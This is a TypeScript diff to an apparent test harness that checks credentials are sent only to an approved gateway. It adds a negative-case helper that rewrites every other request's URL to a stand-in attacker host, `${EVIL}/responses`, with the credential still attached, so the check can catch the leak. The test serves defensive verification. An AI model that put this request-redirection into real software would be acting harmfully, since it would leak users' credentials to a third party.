@@ -33,8 +33,16 @@ function moved({ id, needs = [], answer = empty, run, ...rest }: Moved): Case {
         ok(url.startsWith(GATEWAY) || !credential, `A credential was sent to ${url}`);
       }
     },
-    negative: sends((request) => void (request.url = `${EVIL}/responses`)),
+    negative: leadsAstray,
   };
+}
+
+/** Sends every other request where the base URL was moved to, with its credential. */
+function leadsAstray(subject: Subject): Subject {
+  let count = 0;
+  return sends((request) => {
+    if (count++ % 2) request.url = `${EVIL}/responses`;
+  })(subject);
 }
 
 /** Asks, and does not mind a refusal. */
